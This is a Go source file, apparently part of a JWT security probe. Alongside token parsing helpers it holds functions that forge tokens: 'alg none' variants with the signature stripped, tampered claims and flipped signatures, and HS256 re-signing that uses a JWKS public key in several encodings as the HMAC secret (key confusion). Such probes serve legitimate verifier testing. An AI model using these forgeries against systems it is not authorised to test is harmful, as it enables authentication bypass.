package lifecycle

import (
	"bytes"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/hmac"
	"crypto/rsa"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"math/big"
	"strings"
	"time"
)

// jwt is a compact JWS split into its parts, with header and payload
// decoded (numbers kept as json.Number so that re-encoding does not change
// them).
type jwt struct {
	raw                 string
	header, payload     map[string]any
	rawHeader, rawClaim string // base64url segments as received
	sig                 string
}

var b64 = base64.RawURLEncoding

// parseJWT splits and decodes a compact JWS. Opaque tokens return an error.
func parseJWT(tok string) (*jwt, error) {
	parts := strings.Split(tok, ".")
	if len(parts) != 3 {
		return nil, fmt.Errorf("not a JWT: %d dot-separated parts", len(parts))
	}
	j := &jwt{raw: tok, rawHeader: parts[0], rawClaim: parts[1], sig: parts[2]}
	var err error
	if j.header, err = decodeSegment(parts[0]); err != nil {
		return nil, fmt.Errorf("not a JWT: header: %w", err)
	}
	if j.payload, err = decodeSegment(parts[1]); err != nil {
		return nil, fmt.Errorf("not a JWT: payload: %w", err)
	}
	return j, nil
}

func decodeSegment(s string) (map[string]any, error) {
	b, err := b64.DecodeString(strings.TrimRight(s, "="))
	if err != nil {
		return nil, err
	}
	dec := json.NewDecoder(bytes.NewReader(b))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		return nil, err
	}
	if m == nil {
		return nil, errors.New("not a JSON object")
	}
	return m, nil
}

func encodeSegment(m map[string]any) string {
	b, _ := json.Marshal(m) // maps of JSON-decoded values always encode
	return b64.EncodeToString(b)
}

func clone(m map[string]any) map[string]any {
	out := make(map[string]any, len(m))
	for k, v := range m {
		out[k] = v
	}
	return out
}

// alg is the header's algorithm.
func (j *jwt) alg() string { s, _ := j.header["alg"].(string); return s }

// claimString returns a string claim, "" when absent or not a string.
func (j *jwt) claimString(name string) string { s, _ := j.payload[name].(string); return s }

// claimTime returns a NumericDate claim.
func (j *jwt) claimTime(name string) (time.Time, bool) {
	switch v := j.payload[name].(type) {
	case json.Number:
		f, err := v.Float64()
		if err != nil {
			return time.Time{}, false
		}
		return time.Unix(0, int64(f*float64(time.Second))), true
	case float64:
		return time.Unix(0, int64(v*float64(time.Second))), true
	}
	return time.Time{}, false
}

// audiences returns aud as a list (it may be a string or an array).
func (j *jwt) audiences() []string {
	switch v := j.payload["aud"].(type) {
	case string:
		return []string{v}
	case []any:
		var out []string
		for _, a := range v {
			if s, ok := a.(string); ok {
				out = append(out, s)
			}
		}
		return out
	}
	return nil
}

// withAlgNone is the token with alg set to the given spelling of "none"
// and the signature stripped (the unsecured JWS form, RFC 7515 §A.5).
func (j *jwt) withAlgNone(spelling string) string {
	h := clone(j.header)
	h["alg"] = spelling
	return encodeSegment(h) + "." + j.rawClaim + "."
}

// withFlippedSignature changes one bit in the middle of the decoded
// signature. (Editing the last base64 character might only touch padding
// bits that decoders ignore.)
func (j *jwt) withFlippedSignature() (string, bool) {
	sig, err := b64.DecodeString(strings.TrimRight(j.sig, "="))
	if err != nil || len(sig) == 0 {
		return "", false
	}
	sig[len(sig)/2] ^= 0x01
	return j.rawHeader + "." + j.rawClaim + "." + b64.EncodeToString(sig), true
}

// withClaims is the token with claims changed and the original signature,
// which no longer matches.
func (j *jwt) withClaims(change func(map[string]any)) string {
	p := clone(j.payload)
	change(p)
	return j.rawHeader + "." + encodeSegment(p) + "." + j.sig
}

// signedHS256 is the token re-signed with HMAC-SHA256 under secret.
func (j *jwt) signedHS256(secret []byte) string {
	h := clone(j.header)
	h["alg"] = "HS256"
	input := encodeSegment(h) + "." + j.rawClaim
	mac := hmac.New(sha256.New, secret)
	mac.Write([]byte(input))
	return input + "." + b64.EncodeToString(mac.Sum(nil))
}

// confusionSecret is one encoding of a published public key that a
// confused verifier might feed to HMAC.
type confusionSecret struct {
	kid, form string
	secret    []byte
}

// confusionSecrets turns a JWKS document into the byte strings that
// verifiers which use "the key" as an HMAC secret typically see: the PEM
// file (with and without its final newline), the DER SubjectPublicKeyInfo,
// the PKCS#1 forms of RSA keys and the raw key bytes.
func confusionSecrets(jwks []byte) ([]confusionSecret, error) {
	var doc struct {
		Keys []map[string]any `json:"keys"`
	}
	if err := json.Unmarshal(jwks, &doc); err != nil {
		return nil, fmt.Errorf("JWKS is not JSON: %v", err)
	}
	var out []confusionSecret
	for _, k := range doc.Keys {
		pub, raw, err := publicKeyOf(k)
		if err != nil {
			continue
		}
		kid, _ := k["kid"].(string)
		add := func(form string, b []byte) {
			if len(b) > 0 {
				out = append(out, confusionSecret{kid: kid, form: form, secret: b})
			}
		}
		if der, err := x509.MarshalPKIXPublicKey(pub); err == nil {
			p := pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der})
			add("PEM", p)
			add("PEM without final newline", bytes.TrimRight(p, "\n"))
			add("DER", der)
		}
		if rk, ok := pub.(*rsa.PublicKey); ok {
			der := x509.MarshalPKCS1PublicKey(rk)
			add("PKCS#1 PEM", pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: der}))
			add("PKCS#1 DER", der)
		}
		add("raw key bytes", raw)
	}
	if len(out) == 0 {
		return nil, errors.New("the JWKS holds no public key this probe can read (RSA, EC P-256/384/521, Ed25519)")
	}
	return out, nil
}

// publicKeyOf decodes one JWK into a public key and its raw bytes.
func publicKeyOf(k map[string]any) (any, []byte, error) {
	field := func(name string) ([]byte, error) {
		s, _ := k[name].(string)
		if s == "" {
			return nil, fmt.Errorf("jwk: no %s", name)
		}
		return b64.DecodeString(strings.TrimRight(s, "="))
	}
	kty, _ := k["kty"].(string)
	crv, _ := k["crv"].(string)
	switch kty {
	case "OKP":
		x, err := field("x")
		if err != nil || crv != "Ed25519" || len(x) != ed25519.PublicKeySize {
			return nil, nil, errors.New("jwk: unsupported OKP key")
		}
		return ed25519.PublicKey(x), x, nil
	case "RSA":
		n, err := field("n")
		if err != nil {
			return nil, nil, err
		}
		e, err := field("e")
		if err != nil {
			return nil, nil, err
		}
		return &rsa.PublicKey{N: new(big.Int).SetBytes(n), E: int(new(big.Int).SetBytes(e).Int64())}, n, nil
	case "EC":
		curves := map[string]elliptic.Curve{"P-256": elliptic.P256(), "P-384": elliptic.P384(), "P-521": elliptic.P521()}
		c, ok := curves[crv]
		if !ok {
			return nil, nil, errors.New("jwk: unsupported curve")
		}
		x, err := field("x")
		if err != nil {
			return nil, nil, err
		}
		y, err := field("y")
		if err != nil {
			return nil, nil, err
		}
		size := (c.Params().BitSize + 7) / 8
		raw := append([]byte{4}, append(leftPad(x, size), leftPad(y, size)...)...)
		pub, err := ecdsa.ParseUncompressedPublicKey(c, raw)
		if err != nil {
			return nil, nil, err
		}
		return pub, raw, nil
	}
	return nil, nil, errors.New("jwk: unsupported key type")
}

func leftPad(b []byte, n int) []byte {
	if len(b) >= n {
		return b
	}
	return append(make([]byte, n-len(b)), b...)
}

// isJWT reports whether a token is a decodable compact JWS.
func isJWT(tok string) bool {
	_, err := parseJWT(tok)
	return err == nil
}
